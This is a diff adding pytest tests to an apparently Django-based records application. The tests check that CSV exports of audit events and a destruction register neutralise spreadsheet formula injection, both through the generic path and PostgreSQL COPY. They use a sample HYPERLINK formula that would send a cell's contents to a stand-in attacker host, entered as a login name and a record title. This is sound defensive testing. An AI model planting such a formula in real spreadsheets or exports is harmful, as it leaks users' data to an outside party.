@@ -938,3 +938,45 @@ def test_a_package_of_the_unfinished_year_is_a_draft_on_every_page(client, year_
         pages = pages_of(archive.read("certification.pdf"))
     assert not final.draft and not any("DRAFT" in page for page in pages)
     assert "Records due for destruction at year end " in " ".join(pages)
+
+
+# --------------------------------------------------------------------------- formulas in the CSVs
+
+FORMULA_CELL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+
+
+def test_a_failed_sign_in_named_like_a_formula_is_exported_neutralised(client, frozen_today, profile, records_manager, tmp_path):
+    client.post(reverse("login"), {"username": FORMULA_CELL, "password": "wrong password"})
+    assert AuditEvent.objects.get(action="auth.sign_in_failed").object_repr == FORMULA_CELL
+    folder = unpack(build(records_manager), tmp_path / "package")
+    [row] = [row for row in csv_rows(folder / "audit-events.csv") if row["action"] == "auth.sign_in_failed"]
+    assert row["object_repr"] == "'" + FORMULA_CELL
+    code, output = verify(folder)  # the JSON Lines, which the chain is checked on, keep it exactly
+    assert code == 0, output
+
+
+def test_the_destruction_register_neutralises_its_cells(year_data, records_manager, tmp_path):
+    Record.objects.filter(pk=year_data.shredded.pk).update(title=FORMULA_CELL)
+    folder = unpack(build(records_manager), tmp_path / "package")
+    titles = {row["title"] for row in csv_rows(folder / "destruction-register.csv")}
+    assert "'" + FORMULA_CELL in titles and FORMULA_CELL not in titles
+
+
+@pytest.mark.postgres
+def test_postgresqls_copy_neutralises_as_the_generic_path_does(year_data, records_manager, monkeypatch):
+    Record.objects.filter(pk=year_data.shredded.pk).update(title=FORMULA_CELL)
+    audit_event_record(actor=None, action="auth.sign_in_failed", object_type="username", object_repr=FORMULA_CELL)
+    audit_event_record(actor=None, action="auth.sign_in_failed", object_type="username", object_repr="'@quoted")
+    snapshot = packaging.audit_snapshot(YEAR)
+    copied, generic = (_Collected(), _Collected(), _Collected()), (_Collected(), _Collected(), _Collected())
+    with CaptureQueriesContext(connection):
+        event_export.write_events(copied[0], copied[1], YEAR, snapshot, lambda share: None)
+        register_export.write_destructions(copied[2], YEAR)
+    monkeypatch.setattr(event_export, "through_copy", lambda: False)
+    monkeypatch.setattr(register_export, "through_copy", lambda: False)
+    event_export.write_events(generic[0], generic[1], YEAR, snapshot, lambda share: None)
+    register_export.write_destructions(generic[2], YEAR)
+    for through_copy, through_python in zip(copied, generic):
+        assert through_copy.data() == through_python.data()
+    assert b"'''@quoted" not in copied[0].data() and b",''@quoted," in copied[0].data()
+    assert b'"\'=HYPERLINK(' in copied[0].data() and b'"\'=HYPERLINK(' in copied[2].data()
